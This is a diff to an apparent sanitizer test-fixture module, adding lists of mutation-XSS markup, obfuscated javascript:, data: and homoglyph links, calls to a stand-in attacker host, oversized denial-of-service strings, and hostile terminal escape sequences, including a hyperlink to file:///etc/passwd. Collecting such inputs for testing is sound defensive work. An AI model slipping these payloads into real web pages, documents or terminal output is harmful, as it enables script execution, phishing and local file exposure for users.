@@ -109,7 +109,48 @@ HIDDEN_LETTERS = (
     "a" + "\u0300" * 200 + " heap of marks",
 )
 
-TEXTS = (*MARKUP, *MARKDOWN, *TERMINAL, *HIDDEN_LETTERS)
+# What sanitizers have stumbled over: markup that changes its meaning when it is parsed a second time, or in another namespace.
+MUTATIONS = (
+    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={_RUN} src>'>",
+    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
+    f"<math><mi><mglyph><svg><mi><annotation-xml encoding='text/html'><img src=x onerror={_RUN}></annotation-xml>",
+    f"<svg><annotation-xml><foreignObject><style><!--</style><p id='--><img src=x onerror={_RUN}>'>",
+    f"<svg><desc><foreignObject><body onload={_RUN}></body></foreignObject></desc></svg>",
+    f"<noembed><img title='</noembed><img src=x onerror={_RUN}>'></noembed>",
+    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
+    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={_RUN}>'>",
+    f"<table><caption><svg><title><table><caption></title><img src=x onerror={_RUN}></caption></table>",
+    f"<a href='x' is='x' xlink:href='javascript:{_RUN}'><svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
+    f'<div style="width:expression({_RUN});behavior:url({EVIL}/b.htc);background:u\\72l({EVIL}/c)">css</div>',
+    f"<p style='--x:url({EVIL}/v);background:var(--x)'>variable</p>",
+    f"<img src=`x`onerror={_RUN}> <img/src='x'/onerror={_RUN}>",
+    f"<a href='java\tscript:{_RUN}'>tab</a><a href='java\nscript:{_RUN}'>line</a><a href=' \x01javascript:{_RUN}'>control</a>",
+)
+
+LINKS = (
+    f"[click](java\tscript:{_RUN}) [click](java\x01script:{_RUN}) [click](\x01javascript:{_RUN})",
+    f"[click](<java\u200bscript:{_RUN}>) [click](<\u202ejavascript:{_RUN}>)",
+    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=) ![x](data:image/svg+xml,<svg onload=1>)",
+    f"[click](blob:{EVIL}/1234) [click](filesystem:{EVIL}/temporary/x) [click](view-source:{EVIL})",
+    "[click](//evil.example/no-scheme) [click](\\\\evil.example\\share) [click](https:evil.example)",
+    "[click](intent://evil.example#Intent;scheme=https;end) [click](ms-msdt:/id) [click](steam://run/1) [click](vscode://file/etc)",
+    "[https://good.example](https://g\u043e\u043ed.example) [a](https://good.example\u2044.evil.example/) [b](https://good.example%2eevil.example)",
+    f"> > - 1. [![a [b](javascript:{_RUN})]({EVIL}/p.png '</a><img src=x onerror={_RUN}>')](javascript:{_RUN})",
+    "```\n" * 400 + "- " * 400 + "| " * 400,
+    "x" * 300_000,
+)
+
+TERMINAL_MORE = (
+    "\x1b]8;id=1;javascript:window.hacked=1\x07click\x1b]8;;\x07 \x1b]8;;file:///etc/passwd\x1b\\file\x1b]8;;\x1b\\",
+    "\x1b[30;40mblack on black\x1b[0m \x1b[97;107mwhite on white\x1b[0m \x1b[38;2;255;255;255mvanished\x1b[m",
+    "\x1b[7mreversed\x1b[27m \x1b[38;5;196;48;5;16mindexed\x1b[0m \x1b[4:3;58:2::255:0:0mcurly\x1b[m",
+    "\x1b[;;;;;;;;1mbold\x1b[999999999999mhuge\x1b[-1m\x1b[31",
+    "\x1b[31;onmouseover=alert(1)mnot a colour \x1b[31 qcursor \x1b[?25l\x1b[5n\x1b[6n\x1b[21tqueries",
+    "\x1b]1337;File=name=eA==;inline=1:PHN2Zz4=\x07 \x1b_Gf=24;AAAA\x1b\\ \x1bPq#0;2;0;0;0\x1b\\pictures",
+    "\x1b]777;notify;Approve;now\x07 \x1b]9;4;1;50\x07 \x1b[201~pasted\x1b[200~",
+)
+
+TEXTS = (*MARKUP, *MARKDOWN, *MUTATIONS, *LINKS, *TERMINAL, *TERMINAL_MORE, *HIDDEN_LETTERS)
 # As names of files. Those with hidden letters are refused by patches before anyone is shown them.
 NAMES = tuple(
     name
